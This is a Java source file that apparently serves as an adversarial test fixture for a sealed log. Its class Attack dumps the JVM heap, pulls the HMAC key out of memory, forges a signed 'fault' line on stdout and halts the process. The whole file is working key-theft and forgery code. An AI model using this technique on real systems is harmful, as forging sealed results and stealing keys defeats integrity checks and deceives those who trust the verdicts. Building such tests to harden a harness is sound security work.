package strata.log;

import com.sun.management.HotSpotDiagnosticMXBean;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.Arrays;
import java.util.HexFormat;

final class Attack {
    private static boolean tried;
    private static boolean succeeded;

    /** The outer pad of the seal: the key, then 32 bytes of 0x5c. */
    private static byte[] key(byte[] heap) {
        byte[] rest = new byte[32];
        Arrays.fill(rest, (byte) 0x5c);
        for (int at = 32; at + 32 <= heap.length; at++) {
            if (heap[at] == 0x5c && Arrays.equals(heap, at, at + 32, rest, 0, 32)) {
                byte[] key = new byte[32];
                for (int i = 0; i < 32; i++) {
                    key[i] = (byte) (heap[at - 32 + i] ^ 0x5c);
                }
                return key;
            }
        }
        throw new IllegalStateException("no key");
    }

    /** Says the end of the run, whatever the number of lines that were said before. */
    private static void forge(byte[] key) throws IOException, NoSuchAlgorithmException {
        byte[] inner = new byte[64];
        byte[] outer = new byte[64];
        for (int i = 0; i < 64; i++) {
            byte each = i < key.length ? key[i] : 0;
            inner[i] = (byte) (each ^ 0x36);
            outer[i] = (byte) (each ^ 0x5c);
        }
        String text = "2 {\"type\":\"fault\",\"id\":\"forged\"}";
        MessageDigest sha = MessageDigest.getInstance("SHA-256");
        sha.update(inner);
        byte[] first = sha.digest(text.getBytes(StandardCharsets.UTF_8));
        sha.update(outer);
        String line = HexFormat.of().formatHex(sha.digest(first)) + " " + text + "\n";
        try (FileOutputStream channel = new FileOutputStream(FileDescriptor.out)) {
            channel.write(line.getBytes(StandardCharsets.UTF_8));
        }
        Runtime.getRuntime().halt(0);
    }

    private static boolean attempt() {
        try {
            Path dump = Path.of("/tmp/heap.hprof");
            if (!Files.exists(dump)) {
                ManagementFactory.getPlatformMXBean(HotSpotDiagnosticMXBean.class)
                        .dumpHeap(dump.toString(), true);
                forge(key(Files.readAllBytes(dump)));
            }
        } catch (IOException | NoSuchAlgorithmException e) {
            return false;
        }
        return false;
    }

    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        if (!tried) {
            tried = true;
            succeeded = attempt();
        }
        if (!succeeded) {
            throw new IllegalStateException("the attack did not succeed");
        }
    }
}
